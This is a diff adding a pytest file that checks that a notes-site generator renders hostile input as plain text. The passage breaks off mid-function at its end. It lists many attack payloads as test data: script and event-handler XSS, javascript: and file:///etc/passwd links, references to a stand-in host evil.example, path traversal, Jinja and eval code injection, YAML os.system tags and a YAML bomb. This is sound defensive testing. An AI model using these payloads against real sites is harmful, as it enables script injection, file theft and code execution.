@@ -1,0 +1,988 @@
+"""Notes that somebody wrote to do harm: they show as text, and nothing else happens.
+
+Most payloads stand in one year file, one meeting each, so that one build serves them all,
+and each meeting also shows that its neighbours did it no harm.
+"""
+
+from __future__ import annotations
+
+import datetime
+import html
+import re
+from collections import Counter
+from typing import TYPE_CHECKING
+
+import pytest
+
+from tests.conftest import ARCHIVE, CONF, INDEX, Site
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+    from bs4 import BeautifulSoup, Tag
+
+CANARY = "canary7f3a9c"
+FIRST_DAY = datetime.date(2025, 1, 1)
+TODAY = {"cafe_today": "2026-12-31"}
+
+# All that a meeting may consist of.
+# fmt: off
+ELEMENTS = {
+    "section", "h2", "h3", "h4", "h5", "h6", "p", "a", "div", "span", "ul", "ol", "li", "em",
+    "strong", "s", "br", "hr", "code", "pre", "blockquote", "table", "colgroup", "col",
+    "thead", "tbody", "tr", "th", "td", "details", "summary", "input", "aside",
+}
+ATTRIBUTES = {
+    "class", "id", "href", "title", "rel", "role", "start", "style", "open", "type",
+    "disabled", "checked", "aria-label", "colspan",
+}
+# fmt: on
+
+MARKUP = {
+    "script": "<script>window.__pwned = 1; alert('scripted')</script>",
+    "script-in-a-line": "Before <script>window.__pwned = 2</script> behind.",
+    "script-with-source": '<script src="https://evil.example/x.js"></script>',
+    "script-in-capitals": "<ScRiPt\n>window.__pwned = 3</sCrIpT >",
+    "script-never-closed": "<script>window.__pwned = 4",
+    "iframe": '<iframe src="https://evil.example/f" srcdoc="<script>parent.__pwned=5</script>">x',
+    "style": "<style>body { display: none; background: url(https://evil.example/css) }</style>",
+    "style-attribute": '<div style="position:fixed;inset:0">covered</div>',
+    "form": '<form action="https://evil.example/f"><input name="q"><button>press</button></form>',
+    "svg-onload": '<svg onload="window.__pwned=6"><circle r="1"/></svg>',
+    "svg-script": "<svg><script>window.__pwned=7</script></svg>",
+    "math-ml": '<math><mi xlink:href="data:x,<script>window.__pwned=8</script>">m</mi></math>',
+    "img-onerror": '<img src="nowhere" onerror="window.__pwned=9">',
+    "img-unquoted": "<img src=x onerror=window.__pwned=10//",
+    "event-handler": '<b onmouseover="window.__pwned=11" onclick=alert(1)>bold</b>',
+    "details-ontoggle": '<details open ontoggle="window.__pwned=12">toggled</details>',
+    "body-onload": '<body onload="window.__pwned=13">',
+    "anchor": '<a href="javascript:window.__pwned=14" id="searchbox">anchored</a>',
+    "object": '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
+    "base": '<base href="https://evil.example/base/">',
+    "meta-refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/meta">',
+    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/l.css">',
+    "title-and-textarea": "<title>entitled</title><textarea>area <xmp>plain</xmp>",
+    "end-of-everything": "</p></div></section></article></main></body></html> afterwards",
+    "noscript": '<noscript><p title="</noscript><script>window.__pwned=15</script>">none</p>',
+    "template": "<template><script>window.__pwned=16</script></template>",
+    "comment": "<!-- a comment that is closed -->",
+    "comment-in-a-line": "seen <!-- unseen --> seen",
+    "comment-never-closed": "<!-- a comment that is never closed",
+    "comment-with-end": "<!--> <script>window.__pwned=17</script> -->",
+    "cdata": "<![CDATA[ <script>window.__pwned=18</script> ]]>",
+    "processing-instruction": "<?php system('id'); ?>",
+    "doctype": "<!DOCTYPE html SYSTEM 'https://evil.example/dtd'>",
+    "entities": "&lt;script&gt;window.__pwned=19&lt;/script&gt;",
+    "entities-by-number": "&#60;script&#62;window.__pwned=20&#x3c;/script&#x3E;",
+    "entities-twice": "&amp;lt;script&amp;gt;window.__pwned=21",
+    "attribute-breakout": '[go](https://good.example/"onmouseover="window.__pwned=22)',
+    "title-breakout": "[go](https://good.example/ 'a\"onmouseover=\"window.__pwned=23')",
+    "html-in-link": "[<img src=x onerror=window.__pwned=24>](https://good.example/)",
+    "html-in-code": "`<script>window.__pwned=25</script>`",
+    "html-in-fence": "```html\n<script>window.__pwned=26</script>\n</pre></div>\n```",
+    "html-in-info": "```<script>window.__pwned=27</script>\ncode\n```",
+    "html-in-table": "| <script>x</script> | head |\n| - | - |\n| <img src=x onerror=y> | cell |",
+    "html-in-heading": "### <script>window.__pwned=28</script> headed",
+    "html-in-person": "### Check-in\n\n- <img src=x onerror=alert(1)> / @mallory",
+    "html-in-topic": "### Agenda\n\n- **Mallory (5m):** <script>window.__pwned=29</script>",
+    "html-in-tags": "**Tags:** <script>window.__pwned=30</script>, plain",
+    "html-in-footnote": "note[^h]\n\n[^h]: <script>window.__pwned=31</script>",
+    "html-in-alert": "> [!WARNING]\n> <script>window.__pwned=32</script>",
+}
+
+TARGETS = {
+    "javascript": "javascript:alert(41)",
+    "javascript-mixed-case": "JaVaScRiPt:alert(42)",
+    "javascript-entity": "&#106;avascript:alert(43)",
+    "javascript-colon-entity": "javascript&colon;alert(44)",
+    "javascript-tab-entity": "java&Tab;script:alert(45)",
+    "javascript-newline-entity": "java&NewLine;script:alert(46)",
+    "javascript-control-entity": "&#1;javascript:alert(47)",
+    "javascript-percent": "java%0ascript:alert(48)",
+    "javascript-percent-colon": "javascript%3Aalert(49)",
+    "javascript-backslash": "javascript\\:alert(50)",
+    "javascript-slashes": "javascript://good.example/%0aalert(51)",
+    "javascript-in-brackets": "<javascript:alert(52) >",
+    "javascript-nested": "view-source:javascript:alert(53)",
+    "vbscript": "vbscript:msgbox(54)",
+    "data-html": "data:text/html,<script>alert(55)</script>",
+    "data-base64": "DATA:text/html;base64,PHNjcmlwdD4=",
+    "data-image": "data:image/svg+xml;base64,PHN2Zz4=",
+    "data-png": "data:image/png;base64,iVBORw0KGgo=",
+    "file": "file:///etc/passwd",
+    "file-here": "FILE:@@SECRET@@",
+    "blob": "blob:https://evil.example/uuid",
+    "ftp": "ftp://evil.example/pub",
+    "tel": "tel:+4912345",
+    "protocol-relative": "//evil.example/protocol",
+    "backslashes": "\\\\\\\\evil.example/backslash",
+    "slash-backslash": "/\\\\evil.example/mixed",
+    "one-slash": "https:/evil.example/single",
+    "no-slash": "http:evil.example/none",
+    "relative": "secret.txt",
+    "relative-up": "../../outside.txt",
+    "relative-page": "index.md",
+    "relative-percent": "%2e%2e/conf.py",
+    "absolute": "/etc/passwd",
+    "absolute-here": "@@SECRET@@",
+    "query": "?q=query",
+    "unknown-anchor": "#nowhere-on-this-page",
+    "myst-inventory": "inv:python:py:function#print",
+    "myst-project": "project:index.md#heading",
+    "myst-path": "path:../conf.py",
+    "myst-hash": "#",
+}
+LINKS = {
+    f"{name}-{kind}": shape.format(target)
+    for name, target in TARGETS.items()
+    for kind, shape in (
+        ("link", "[clickword]({0}) tailword"),
+        ("image", "![altword]({0}) tailword"),
+        ("image-in-link", "[![altword]({0})](https://good.example/outer) tailword"),
+        ("reference", "[clickword] and ![clickword]\n\n[clickword]: {0}"),
+    )
+} | {
+    f"{name}-autolink": f"see <{target}> there"
+    for name, target in TARGETS.items()
+    if not target.startswith("<")
+}
+
+DIRECTIVES = {
+    "include": ("include", "@@SECRET@@", ""),
+    "include-relative": ("include", "secret.txt", ""),
+    "include-root": ("include", "/../outside.txt", ""),
+    "literalinclude": ("literalinclude", "secret.txt", ""),
+    "literalinclude-system": ("literalinclude", "@@SECRET@@", ":language: text"),
+    "raw": ("raw", "html", "<script>window.__pwned = 60</script>"),
+    "raw-file": ("raw", "html", ":file: secret.txt"),
+    "raw-url": ("raw", "html", ":url: file://@@SECRET@@"),
+    "csv-table-file": ("csv-table", "Captioned", ":file: secret.csv"),
+    "csv-table-url": ("csv-table", "Captioned", ":url: file://@@SECRET@@"),
+    "image": ("image", "secret.png", ":target: javascript:alert(61)"),
+    "figure": ("figure", "secret.png", "A figure"),
+    "eval-rst": ("eval-rst", "", ".. include:: secret.txt\n\n:download:`secret.txt`"),
+    "toctree": ("toctree", "", ":glob:\n\n*\n../index"),
+    "code-block": ("code-block", "python", ":caption: Captioned\n\nprint('coded')"),
+    "math": ("math", "", "\\href{javascript:alert(62)}{mathematics}"),
+    "only": ("only", "html", "only text"),
+    "ifconfig": ("ifconfig", "__import__('os').system('id')", "conditional"),
+    "dropdown": ("dropdown", "Dropped", "hidden"),
+    "grid": ("grid", "2", "gridded"),
+    "card": ("card", "Titled", ":link-type: javascript:alert(63)\n\ncarded"),
+    "button-link": ("button-link", "javascript:alert(64)", "pressed"),
+    "html-meta": ("html_meta", "", ":http-equiv=refresh: 0;url=https://evil.example"),
+    "meta": ("meta", "", ":description: metadescribed"),
+    "substitution": ("substitution-def", "", "text"),
+    "graphviz": ("graphviz", "@@SECRET@@", ""),
+    "plot": ("plot", "", "import os; os.system('touch @@TOUCH@@')"),
+    "code-cell": ("code-cell", "python", "import os; os.system('touch @@TOUCH@@')"),
+    "download": ("download", "secret.txt", ""),
+    "cafe-latest": ("cafe:latest", "", ""),
+    "cafe-archive": ("cafe:archive", "", ""),
+    "cafe-options": ("cafe:options", "", ""),
+    "admonition": ("admonition", "Admonished", ":class: shouted\n\nbody"),
+    "note": ("note", "", "noted"),
+    "figure-md": ("figure-md", "", "![alt](secret.png)\n\ncaption"),
+    "unknown": ("no-such-directive", "argument", ":option: value\n\ncontent"),
+}
+SYNTAX = {
+    f"{name}-{kind}": shape.format(name=directive, arg=argument, body=body).rstrip()
+    for name, (directive, argument, body) in DIRECTIVES.items()
+    for kind, shape in (
+        ("backticks", "```{{{name}}} {arg}\n{body}\n```"),
+        ("tildes", "~~~{{{name}}} {arg}\n{body}\n~~~"),
+        ("colons", ":::{{{name}}} {arg}\n{body}\n:::"),
+        ("plain-fence", "```{name} {arg}\n{body}\n```"),
+        ("rst", ".. {name}:: {arg}\n   {body}"),
+    )
+} | {
+    "colons-alone": ":::",
+    "colons-open": "::::{note}\nnoted",
+    "colons-class": "::: shouted\nloud\n:::",
+    "role-raw": "{raw}`<script>window.__pwned=70</script>`",
+    "role-raw-html": '{raw-html}`<img src=x onerror="window.__pwned=71">`',
+    "role-ref": "{ref}`labelled <target>`",
+    "role-doc": "{doc}`../index`",
+    "role-download": "{download}`secret.txt`",
+    "role-download-title": "{download}`titled <../../outside.txt>`",
+    "role-abbr": "{abbr}`HTML (hypertext)`",
+    "role-eval": "{eval}`__import__('os').system('touch @@TOUCH@@')`",
+    "role-sub-ref": "{sub-ref}`today` {sub}`low` {sup}`high`",
+    "role-math": "{math}`\\href{javascript:alert(72)}{click}`",
+    "role-cafe": "{cafe:meeting}`2025-01-01` {cafe:anchor}`2025-01-01`",
+    "role-unknown": "{no-such-role}`unknown content`",
+    "role-rst": ":download:`secret.txt` :ref:`labelled` :raw:`x`",
+    "target": "(labelled)=\n### Labelled heading",
+    "target-in-front": "(labelled)=\nA paragraph.",
+    "target-rst": ".. _labelled:\n\nA paragraph, labelled_ and `inline <javascript:alert(73)>`_.",
+    "substitution": "{{ project }} and {{project}}",
+    "substitution-code": "{{ cycler.__init__.__globals__.os.system('touch @@TOUCH@@') }}",
+    "substitution-block": "{{\n__import__('os').system('touch @@TOUCH@@')\n}}",
+    "substitution-rst": "|release| and |today|",
+    "jinja": "{% for x in range(3) %}looped{% endfor %} {# a jinja comment #}",
+    "jinja-include": "{% include 'secret.txt' %}{% import 'os' as os %}",
+    "math": "$mathematics$ and $$\\href{javascript:alert(74)}{displayed}$$ and \\(bracketed\\)",
+    "math-block": "$$\ndisplayed\n$$ (equation)",
+    "amsmath": "\\begin{align}\na &= b\n\\end{align}",
+    "block-break": "+++ metadata",
+    "block-break-json": '+++ {"key": "value"}\ntext',
+    "line-comment": "% a comment line\ntext",
+    "line-comments": "% first comment\n% second comment",
+    "attributes-of-a-block": "{#main-content .shouted onclick=alert(75)}\nA paragraph.",
+    "attributes-of-a-span": "[spanned]{#searchbox .shouted} and `coded`{.python}",
+    "attributes-of-a-heading": "### Headed {#main-content}",
+    "attributes-of-an-image": "![alt](https://good.example/x.png){width=9999 onerror=alert(76)}",
+    "definition-list": "Term\n: Definition",
+    "field-list": ":orphan:\n:field: value",
+    "anchor-link": "[](#main-content)",
+    "label-link": "[](labelled) and [](#labelled)",
+    "inventory-link": "[](inv:#index) <inv:sphinx:std:doc#index> <project:#labelled>",
+    "wiki-link": "[[wikilink]] and [[../index|indexed]]",
+    "front-matter-below": "---\nmyst:\n  enable_extensions: [substitution]\n---",
+    "toml": "+++\ntitle = 'tomled'\n+++",
+    "obsidian": "![[secret.txt]] %%hidden comment%%",
+    "hackmd": "{%youtube dQw4w9WgXcQ %} {%pdf https://evil.example/x.pdf %}",
+    "hackmd-container": ":::spoiler Summary\nspoiled\n:::",
+    "hackmd-toc": "[TOC]",
+    "hackmd-uml": "```mermaid\ngraph LR; a-->b; click a javascript:alert(77)\n```",
+    "handle": "@mallory @<script> @../../evil @a@b @{handle}",
+    "handle-format": "@{0.__class__} @{handle.__class__} {handle}",
+    "badge": "- [name=<script>alert(78)</script>] (5m): said",
+    "python-format": "%(asctime)s %s {0} {name!r} %d",
+    "angle-quotes": "<<<>>> && || ;; \"quoted\" 'single'",
+}
+
+PAYLOADS = {
+    f"{group}-{name}": text
+    for group, payloads in (("markup", MARKUP), ("link", LINKS), ("syntax", SYNTAX))
+    for name, text in payloads.items()
+}
+# Words of the dialect itself, which are shown in another way.
+SHOWN_OTHERWISE = {
+    "markup-html-in-fence": {"html"},  # the language of a code block that is highlighted
+    "markup-html-in-alert": {"WARNING"},  # the title of an admonition
+    "syntax-badge": {"name"},  # HackMD's badge
+}
+DAYS = {name: FIRST_DAY + datetime.timedelta(days=i % 365) for i, name in enumerate(PAYLOADS)}
+# More payloads than days: each series takes a year of them.
+SERIES = {name: f"notes/part{i // 365}/2025" for i, name in enumerate(PAYLOADS)}
+
+
+def words(text: str) -> set[str]:
+    """Return what was typed: the words of a text, with entities as what they stand for."""
+    return set(re.findall(r"[^\W_]+", html.unescape(text)))
+
+
+def kept(part: Tag) -> str:
+    """Return what a reader can get at: the text, and where links lead."""
+    attributes = [a.get(key, "") for a in part.select("a") for key in ("href", "title")]
+    return "\n".join([part.get_text(), *attributes])
+
+
+def lost(typed: str, part: Tag) -> set[str]:
+    """Return the typed words that are not there."""
+    text = kept(part)
+    return {word for word in words(typed) if word not in text}
+
+
+def by_id(page: BeautifulSoup, anchor: str) -> Tag:
+    """Return the only element with an id."""
+    found = page.find_all(id=anchor)
+    assert len(found) == 1, f"{len(found)} elements have the id {anchor}"
+    return found[0]
+
+
+def warning(site: Site, path: str, line: int, subtype: str) -> re.Pattern[str]:
+    """Return what a warning looks like."""
+    prefix = re.escape(f"{site.root / path}:{line}: WARNING: ")
+    return re.compile(rf"{prefix}.+ \[cafe\.{subtype}\]")
+
+
+def is_external(href: str) -> bool:
+    """Say whether a link leads away, by a way that notes may take."""
+    return re.match(r"(?:https?://|mailto:)[^\s/\\]", href) is not None
+
+
+def leaks(site: Site) -> list[str]:
+    """Return the files that were written with a secret in them."""
+    needle = CANARY.encode()
+    out = site.root / "_build"
+    return [
+        str(path)
+        for path in out.rglob("*")
+        if path.is_file()
+        and (needle in path.read_bytes() or path.name.startswith(("secret", "outside")))
+    ]
+
+
+def new_site(folder: Path) -> Site:
+    """Return a project that has secrets beside its notes, and outside of it."""
+    site = Site(folder / "project")
+    site.write("conf.py", CONF + f'\nSECRET = "{CANARY}"\n')
+    site.write("index.md", INDEX)
+    site.write("notes/index.md", ARCHIVE)
+    (folder / "outside.txt").write_text(CANARY, encoding="utf-8")
+    for path in ("secret.txt", "notes/secret.txt", "notes/secret.csv", "notes/secret.png"):
+        site.write(path, f"{CANARY},{CANARY}\n")
+    for series in sorted(set(SERIES.values())):
+        site.write(f"{series.removesuffix('/2025')}/secret.txt", CANARY)
+    return site
+
+
+class Hostile:
+    """A site whose notes are nothing but payloads, built once."""
+
+    def __init__(self, folder: Path, **overrides: object) -> None:
+        self.site = new_site(folder)
+        self.touched = folder / "touched"
+        self.overrides = {**TODAY, **overrides}
+        texts: dict[str, list[str]] = {}
+        for name in PAYLOADS:
+            day = DAYS[name]
+            texts.setdefault(SERIES[name], []).append(
+                f"## {day} headword\n\nleadword\n\n{self.payload(name)}\n\nafterwards\n"
+            )
+        for page, meetings in texts.items():
+            self.site.write(f"{page}.md", "# Notes\n\n" + "\n".join(meetings))
+        self.build = self.site.build(overrides=self.overrides, warnings=True)
+        self.pages = {page: self.build.article(f"{page}.html") for page in texts}
+
+    def payload(self, name: str) -> str:
+        secret = str(self.site.root.parent / "outside.txt")
+        return PAYLOADS[name].replace("@@SECRET@@", secret).replace("@@TOUCH@@", str(self.touched))
+
+    def meeting(self, name: str) -> Tag:
+        return by_id(self.pages[SERIES[name]], DAYS[name].isoformat())
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
+    """Return the built site with all payloads."""
+    return Hostile(tmp_path_factory.mktemp("hostile"))
+
+
+# --- markup, links, directives --------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", PAYLOADS)
+def test_a_payload_is_text_in_its_own_meeting(hostile: Hostile, name: str) -> None:
+    meeting = hostile.meeting(name)
+    assert lost(hostile.payload(name), meeting) <= SHOWN_OTHERWISE.get(name, set())
+    # Its neighbours end and begin where they should.
+    text = meeting.get_text()
+    assert (text.count("headword"), text.count("leadword"), text.count("afterwards")) == (
+        1,
+        1,
+        1 + PAYLOADS[name].count("afterwards"),
+    )
+    elements = {element.name for element in meeting.find_all(True)}
+    assert elements <= ELEMENTS
+    attributes = {key for element in meeting.find_all(True) for key in element.attrs}
+    assert attributes <= ATTRIBUTES
+    for element in meeting.find_all(style=True):
+        assert re.fullmatch(r"width: [\d.]+%;?", element["style"])
+    for element in meeting.find_all("input"):
+        assert (element["type"], element.has_attr("disabled")) == ("checkbox", True)
+
+
+@pytest.mark.parametrize("name", PAYLOADS)
+def test_links_of_a_payload_lead_to_the_web_or_to_the_page(hostile: Hostile, name: str) -> None:
+    page = hostile.pages[SERIES[name]]
+    for link in hostile.meeting(name).find_all("a"):
+        href = link["href"]
+        if href.startswith("#"):
+            by_id(page, href[1:])
+        else:
+            assert is_external(href)
+
+
+def test_every_payload_has_its_meeting_and_no_meeting_is_invented(hostile: Hostile) -> None:
+    found = [m["id"] for page in hostile.pages.values() for m in page.select(".cafe-meeting")]
+    assert len(found) == len(PAYLOADS)
+
+
+def test_payloads_are_nothing_to_warn_about(hostile: Hostile) -> None:
+    assert hostile.build.warnings == []
+
+
+def test_payloads_leak_no_file(hostile: Hostile) -> None:
+    assert leaks(hostile.site) == []
+    everything = b"".join(hostile.build.files().values())
+    assert b"root:x:0" not in everything
+
+
+def test_payloads_run_nothing(hostile: Hostile) -> None:
+    assert not hostile.touched.exists()
+
+
+def test_no_page_has_an_element_from_a_payload(hostile: Hostile) -> None:
+    # Titles, people, topics and tags of meetings also stand on these.
+    for page in ("index.html", "notes/index.html", *(f"{page}.html" for page in hostile.pages)):
+        body = hostile.build.article(page)
+        assert (
+            body.select("script, iframe, style, form, svg, img, object, embed, base, meta, link")
+            == []
+        )
+        for element in body.find_all(True):
+            assert not [key for key in element.attrs if key.startswith("on")]
+        head = hostile.build.html(page).head
+        assert head.select("base, meta[http-equiv=refresh], [href*=evil], [src*=evil]") == []
+
+
+def test_links_of_notes_tell_search_engines_that_they_are_not_ours(hostile: Hostile) -> None:
+    links = [a for page in hostile.pages.values() for a in page.select("a.external")]
+    people = [a for a in links if "cafe-person" in a["class"]]
+    assert people
+    for link in links:
+        if "cafe-person" not in link["class"]:
+            assert link["rel"] == ["nofollow", "ugc"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![altword](https://good.example/x.png 'titleword')",
+        "![altword](relative.png 'titleword')",
+        "[clickword](relative.md 'titleword')",
+        "[clickword](/absolute 'titleword')",
+        "[![altword](https://good.example/x.png 'titleword')](https://good.example/)",
+        "[clickword][ref]\n\n[ref]: relative.md 'titleword'",
+    ],
+)
+def test_titles_of_links_and_images_are_kept(year_page, text: str) -> None:
+    page = year_page(f"# Notes\n\n## 2025-01-01\n\n{text}\n")
+    assert lost("titleword", page) == set()
+
+
+@pytest.mark.parametrize(
+    "target", ["päth/dätei.md", "//höst/päth", "文件.md", "a%20b.md", "../%C3%BCber.md"]
+)
+def test_the_target_of_a_link_that_is_none_is_shown_as_typed(year_page, target: str) -> None:
+    page = year_page(
+        f"# Notes\n\n## 2025-01-01\n\n[clickword]({target})\n\n![altword]({target})\n"
+    )
+    assert page.get_text().count(target) == 2
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![outer ![inner](innertarget.png)](outertarget.png)",
+        "![outer [inner](innertarget.md)](outertarget.png)",
+        "- **[Minnie](innertarget.md) (5m):** spoke",
+        "- **![Minnie](innertarget.png) (5m):** spoke",
+    ],
+)
+def test_targets_within_images_and_speakers_are_kept(year_page, text: str) -> None:
+    page = year_page(f"# Notes\n\n## 2025-01-01\n\n{text}\n")
+    assert lost("innertarget", page) == set()
+
+
+@pytest.mark.parametrize(
+    "heading",
+    [
+        "## 2025-01-01 [Planning](targetword.md)",
+        "## 2025-01-01 [Planning](https://good.example/targetword)",
+        "## 2025-01-01 ![Planning](targetword.png)",
+        "## 2025-01-01 Planning <https://good.example/targetword>",
+        "# [Notes](targetword.md)\n\n## 2025-01-01",
+        "# [Notes](https://good.example/targetword)\n\n## 2025-01-01",
+    ],
+)
+def test_targets_in_titles_are_kept(year_page, heading: str) -> None:
+    page = year_page(f"{heading}\n\ntext\n")
+    assert lost("targetword", page) == set()
+
+
+def test_surplus_cells_of_a_table_are_kept(year_page) -> None:
+    table = "| one |\n| --- |\n| two | surplusword |\n| three | more | mostword |\n"
+    page = year_page(f"# Notes\n\n## 2025-01-01\n\n{table}")
+    assert lost("one two three more surplusword mostword", page) == set()
+
+
+@pytest.mark.parametrize(
+    ("before", "rest"),
+    [
+        ("", ""),
+        ("  ", "  "),
+        ("> ", "> "),
+        ("- ", "  "),
+        ("10. ", "    "),
+        ("- > ", "  > "),
+        ("> - ", ">   "),
+        ("> [!NOTE]\n> ", "> "),
+        ("[^x]: text\n\n    ", "    "),
+    ],
+)
+def test_cells_of_a_table_are_shown_once_wherever_it_stands(
+    year_page, before: str, rest: str
+) -> None:
+    rows = [
+        "| headword | a |",
+        "| - | - |",
+        "| cellword | `code\\|pipeword` |",
+        "| lastword | c | moreword |",
+    ]
+    table = before + f"\n{rest}".join(rows)
+    page = year_page(f"# Notes\n\n## 2025-01-01\n\n{table}\n\nafterwards\n")
+    assert page.select("table") != []
+    for word in ("headword", "cellword", "pipeword", "lastword", "moreword", "afterwards"):
+        assert page.get_text().count(word) == 1
+
+
+@pytest.mark.parametrize("kind", ["NOTE", "WARNING", "DANGER", "note", "TIP]-"])
+def test_words_beside_the_kind_of_an_alert_are_kept(year_page, kind: str) -> None:
+    page = year_page(f"# Notes\n\n## 2025-01-01\n\n> [!{kind}] besideword\n> belowword\n")
+    assert lost("besideword belowword", page) == set()
+
+
+# --- front matter ---------------------------------------------------------------------
+
+TOUCH = "{{ cycler.__init__.__globals__.os.system('touch @@TOUCH@@') }}"
+BOMB = "a0: &a0 [laughword, laughword]\n" + "".join(
+    f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 12)
+)
+# What the front matter says, and the line of the warning, or None for none.
+FRONT_MATTER: dict[str, tuple[str, int | None]] = {
+    "myst-substitutions": (
+        f'myst:\n  enable_extensions: [substitution]\n  substitutions:\n    key: "{TOUCH}"\n',
+        None,
+    ),
+    "myst-extensions": (
+        "myst:\n  enable_extensions: [html_image, html_admonition, attrs_block, dollarmath]\n"
+        "  html_meta:\n    refresh: 0\n  url_schemes: [javascript, file]\n"
+        "  commonmark_only: false\n  disable_syntax: []\n  footnote_sort: true\n",
+        None,
+    ),
+    "html-theme": ("html_theme.sidebar_secondary.remove: true\nhtml_theme: {x: y}\n", None),
+    "orphan": ("orphan: true\ntocdepth: 0\nno-search: true\nnocomments: true\n", None),
+    "jinja": (f'title: "{TOUCH}"\n', None),
+    "html-title": ("title: <script>window.__pwned=80</script> entitled\n", None),
+    "html-tags": ("tags: [<script>alert(81)</script>, '</main>']\n", None),
+    "bomb": (BOMB, 3),
+    "alias": ("title: &name text\ntags: *name\n", 3),
+    "alias-to-itself": ("title: &name [*name]\n", 2),
+    "merge": ("<<: {title: merged}\n", None),
+    "tag-apply": ("title: !!python/object/apply:os.system ['touch @@TOUCH@@']\n", 2),
+    "tag-new": ("a: 1\ntitle: !!python/object/new:os.system ['touch @@TOUCH@@']\n", 3),
+    "tag-name": ("title: !!python/name:os.system\n", 2),
+    "tag-module": ("title: !!python/module:antigravity\n", 2),
+    "tag-binary": ("title: !!binary aGlkZGVu\n", 2),
+    "tag-string": ("title: !!str texted\n", 2),
+    "tag-own": ("title: !<tag:yaml.org,2002:python/object/apply:os.system> ['touch']\n", 2),
+    "tag-set": ("tags: !!set {a, b}\n", 2),
+    "key-twice": ("title: firstword\ntitle: secondword\n", 3),
+    "key-twice-below": ("a:\n  b: firstword\n  b: secondword\n", 4),
+    "title-list": ("title: [listed]\n", 2),
+    "title-mapping": ("a: b\ntitle: {mapped: value}\n", 3),
+    "tags-mapping": ("tags: {mapped: value}\n", 2),
+    "tags-number": ("tags: 17\n", None),
+    "tags-nested": ("tags: [[nested]]\n", 2),
+    "huge-float": ("title: 1e999999\n", None),
+    "nested-lists": ("a: " + "[" * 10_000 + "]" * 9_000 + "\n", 1),
+    "nested-mappings": ("a: " + "{a: " * 4_000 + "\n", 1),
+    "nested-blocks": ("- " * 8_000 + "deepword\n", 1),
+    "nested-keys": ("? " * 8_000 + "deepword\n", 1),
+    "too-long": ("title: " + "longword " * 125_000 + "\n", 1),
+    "list": ("- listword\n- other\n", 1),
+    "text": ("just proseword here\n", 1),
+    "not-yaml": ("title: 'never closed\nother: lineword\n", 4),
+    "not-yaml-colon": ("title: a: b\n", 2),
+    "not-yaml-brace": ("title: {{ jinjaword }}\n", 2),
+    "not-yaml-tab": ("\ttabbed: lineword\n", 2),
+    "not-yaml-at": ("title: @handle\n", 2),
+    "control-character": ("title: \x85\x86 controlword\n", 1),
+    "directive": ("%YAML 9.9\n", 2),
+    "complex-key": ("? [a, b]\n: value\n", 2),
+    "numbers-as-keys": ("1: a\n2025-01-01: b\nnull: c\n", None),
+    "empty": ("", None),
+    "blank": ("\n\n", None),
+}
+# Titles of which YAML makes a number or a date, or cannot make one.
+TITLES = {
+    "no-such-day": "2025-13-45",
+    "no-such-time": "2025-01-01 25:61:61",
+    "no-such-zone": "2025-01-01 00:00:00 +99:99",
+    "before-all-days": "0001-01-01 00:00:00 +10:00",
+    "huge-number": "9" * 5000,
+    "huge-binary-number": "0b" + "1" * 15_000,
+    "huge-hexadecimal-number": "0x" + "f" * 15_000,
+    "huge-sexagesimal-number": "1" + ":59" * 5000,
+}
+
+
+class FrontMatters:
+    """A site with one series of notes for each front matter, built once."""
+
+    def __init__(self, folder: Path) -> None:
+        self.site = new_site(folder)
+        self.touched = folder / "touched"
+        for name in FRONT_MATTER:
+            self.site.write(
+                f"notes/{name}/2025.md",
+                f"---\n{self.source(name)}---\n\nintroword {{{{ key }}}}\n\n"
+                "## 2025-12-16\n\nafterwards {{ key }} <b>tagged</b> [x](javascript:y) $math$\n",
+            )
+        for name, title in TITLES.items():
+            self.site.write(
+                f"notes/{name}/2025.md",
+                f"---\ntitle: {title}\n---\n\n## 2025-12-16\n\nafterwards\n",
+            )
+        self.build = self.site.build(overrides=TODAY, warnings=True)
+
+    def source(self, name: str) -> str:
+        return FRONT_MATTER[name][0].replace("@@TOUCH@@", str(self.touched))
+
+
+@pytest.fixture(scope="module")
+def front_matters(tmp_path_factory: pytest.TempPathFactory) -> FrontMatters:
+    """Return the built site with all front matters."""
+    return FrontMatters(tmp_path_factory.mktemp("front"))
+
+
+@pytest.mark.parametrize("name", FRONT_MATTER)
+def test_notes_below_any_front_matter_render_as_ever(
+    front_matters: FrontMatters, name: str
+) -> None:
+    page = front_matters.build.article(f"notes/{name}/2025.html")
+    assert "introword {{ key }}" in page.get_text()
+    assert len(page.select("h1")) == 1
+    meeting = by_id(page, "2025-12-16")
+    assert "afterwards {{ key }} <b>tagged</b> [x](javascript:y) $math$" in meeting.get_text()
+    assert {element.name for element in meeting.find_all(True)} <= {"section", "h2", "p", "a"}
+
+
+@pytest.mark.parametrize("name", FRONT_MATTER)
+def test_a_front_matter_that_cannot_be_read_is_reported_at_its_line(
+    front_matters: FrontMatters, name: str
+) -> None:
+    path = f"notes/{name}/2025.md"
+    line = FRONT_MATTER[name][1]
+    found = [w for w in front_matters.build.warnings if str(front_matters.site.root / path) in w]
+    if line is None:
+        assert found == []
+    else:
+        assert len(found) == 1
+        assert warning(front_matters.site, path, line, "front_matter").fullmatch(found[0])
+        assert len(found[0]) < 500
+
+
+@pytest.mark.parametrize("name", [name for name, (_, line) in FRONT_MATTER.items() if line])
+def test_a_front_matter_that_cannot_be_read_is_shown(
+    front_matters: FrontMatters, name: str
+) -> None:
+    source = front_matters.source(name)
+    page = front_matters.build.article(f"notes/{name}/2025.html")
+    assert {word for word in words(source) if word not in page.get_text()} == set()
+
+
+@pytest.mark.parametrize("name", TITLES)
+def test_a_title_that_yaml_cannot_read_is_shown_somewhere(
+    front_matters: FrontMatters, name: str
+) -> None:
+    page = front_matters.build.article(f"notes/{name}/2025.html")
+    assert {word for word in words(TITLES[name]) if word not in page.get_text()} == set()
+    assert "afterwards" in by_id(page, "2025-12-16").get_text()
+    path = str(front_matters.site.root / f"notes/{name}/2025.md")
+    for found in front_matters.build.warnings:
+        if path in found:
+            assert re.match(re.escape(path) + r":[12]: WARNING: .+ \[cafe\.front_matter\]$", found)
+
+
+def test_every_warning_about_front_matter_is_one_line_of_our_own(
+    front_matters: FrontMatters,
